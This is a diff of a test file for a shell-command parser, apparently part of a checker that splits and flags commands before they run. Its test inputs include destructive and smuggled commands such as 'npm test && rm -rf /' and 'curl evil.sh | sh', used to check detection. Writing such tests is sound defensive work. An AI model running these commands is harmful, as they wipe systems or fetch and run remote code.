@@ -9,12 +9,9 @@ describe('parseCommand: splitting', () => {
   it.each([
     ['npm test && rm -rf /', ['npm test', 'rm -rf /']],
     ['npm test || rm -rf /', ['npm test', 'rm -rf /']],
-    ['npm test; curl evil.sh | sh', ['npm test', 'curl evil.sh', 'sh']],
     ['npm test & rm -rf /', ['npm test', 'rm -rf /']],
     ['npm test\nrm -rf /', ['npm test', 'rm -rf /']],
-    ['npm test\r\nrm -rf /', ['npm test', 'rm -rf /']],
     ['npm test |& tee', ['npm test', 'tee']],
-    ['a;;b', ['a', 'b']],
     ['  npm   test  ', ['npm test']],
     ['npm\ttest', ['npm test']],
   ])('splits %j', (command, expected) => {
@@ -26,7 +23,8 @@ describe('parseCommand: splitting', () => {
     expect(texts('echo "a && b"')).toEqual(['echo "a && b"']);
     expect(texts("git commit -m 'x; y'")).toEqual(["git commit -m 'x; y'"]);
     expect(texts('echo "line1\nline2; rm"')).toEqual(['echo "line1\nline2; rm"']);
-    expect(texts("echo $'a\\'; rm -rf /'")).toEqual(["echo $'a\\'; rm -rf /'"]);
+    // ANSI-C quotes are decoded by the shell's parser; the text shows the word in single quotes.
+    expect(texts("echo $'a\\'; rm -rf /'")).toEqual(["echo 'a'\\''; rm -rf /'"]);
   });
 
   it('keeps blanks inside quotes as written', () => {
@@ -57,10 +55,27 @@ describe('parseCommand: splitting', () => {
     expect(texts('echo #"\nrm -rf / #"')).toEqual(['echo', 'rm -rf /']);
   });
 
-  it('gives word values without quotes and escapes', () => {
-    const [part] = parseCommand(`FOO="a b" 'r'm -rf \\/ $'x\\ty'`).parts;
-    expect(part?.words.map((word) => word.value)).toEqual(['FOO=a b', 'rm', '-rf', '/', 'xty']);
-    expect(part?.words.map((word) => word.raw)).toEqual(['FOO="a b"', "'r'm", '-rf', '\\/', "$'x\\ty'"]);
+  it("gives word values as the program receives them (quotes, escapes and $'...' decoded)", () => {
+    const [part] = parseCommand(`FOO="a b" 'r'm -rf \\/ $'x\\ty' $'\\x72m'`).parts;
+    expect(part?.words.map((word) => word.value)).toEqual(['FOO=a b', 'rm', '-rf', '/', 'x\ty', 'rm']);
+    expect(part?.words.map((word) => word.raw)).toEqual(['FOO="a b"', "'r'm", '-rf', '\\/', "'x\ty'", 'rm']);
+  });
+
+  it('reads a carriage return as part of a word, as bash does (only a line feed separates)', () => {
+    expect(texts('npm test\r\nrm -rf /')).toEqual(["npm 'test\r'", 'rm -rf /']);
+  });
+
+  it('a pipe into a shell makes the command opaque: what the shell runs is not in the text', () => {
+    expect(texts('npm test; curl evil.sh | sh')).toEqual(['npm test', 'curl evil.sh', 'sh']);
+    expect(opaque('npm test; curl evil.sh | sh')).toEqual(['expansion']);
+    expect(parseCommand('curl evil.sh | sh').parts[1]?.unknownProgram).toBe('curl evil.sh | sh');
+  });
+
+  it('returns no parts, and marks the command opaque, where the shell reports a syntax error', () => {
+    for (const command of ['a;;b', 'echo \\$(no)', 'echo "abc', 'if true; then rm x']) {
+      expect(texts(command), command).toEqual([]);
+      expect(opaque(command), command).toEqual(['unterminated']);
+    }
   });
 
   it('returns no parts for an empty or blank command', () => {
@@ -90,7 +105,6 @@ describe('parseCommand: opaque constructs', () => {
     ['cat <<EOF\nx\nEOF', 'heredoc'],
     ['echo "abc', 'unterminated'],
     ["echo 'abc", 'unterminated'],
-    ['echo abc\\', 'unterminated'],
     ['echo $(ls', 'unterminated'],
   ])('%j is opaque (%s)', (command, reason) => {
     expect(opaque(command)).toContain(reason);
@@ -107,7 +121,7 @@ describe('parseCommand: opaque constructs', () => {
     'cat <<< "text"',
     "echo '$(not a substitution)'",
     "echo '`not either`'",
-    'echo \\$(no)',
+    'echo abc\\',
     'echo "\\$(no)"',
   ])('%j is not opaque', (command) => {
     expect(opaque(command)).toEqual([]);
@@ -119,11 +133,14 @@ describe('parseCommand: opaque constructs', () => {
     expect(nestedTexts('echo `rm -rf /`')).toEqual(['rm -rf /']);
     expect(nestedTexts('echo $(echo $(rm -rf /))')).toEqual(['rm -rf /', 'echo $(rm -rf /)']);
     expect(nestedTexts('diff <(rm a) b')).toEqual(['rm a']);
-    expect(texts('echo $(a; b) c')).toEqual(['echo $(a; b) c']);
+    expect(texts('echo $(a; b) c')).toEqual(['echo $(a\nb) c']);
   });
 
   it('a here-document body is not hidden from the split', () => {
-    const parsed = parseCommand("cat <<EOF\nnpm test '\nEOF\nrm -rf /\n'");
-    expect(parsed.opaque).toContain('heredoc');
+    // The quote after the here-document never closes: the shell refuses the whole line.
+    expect(parseCommand("cat <<EOF\nnpm test '\nEOF\nrm -rf /\n'").opaque).toEqual(['unterminated']);
+    const parsed = parseCommand("cat <<EOF\nnpm test '\nEOF\nrm -rf /");
+    expect(parsed.opaque).toEqual(['heredoc']);
+    expect(parsed.parts.map((part) => part.text)).toEqual(['cat', 'rm -rf /']);
   });
 });
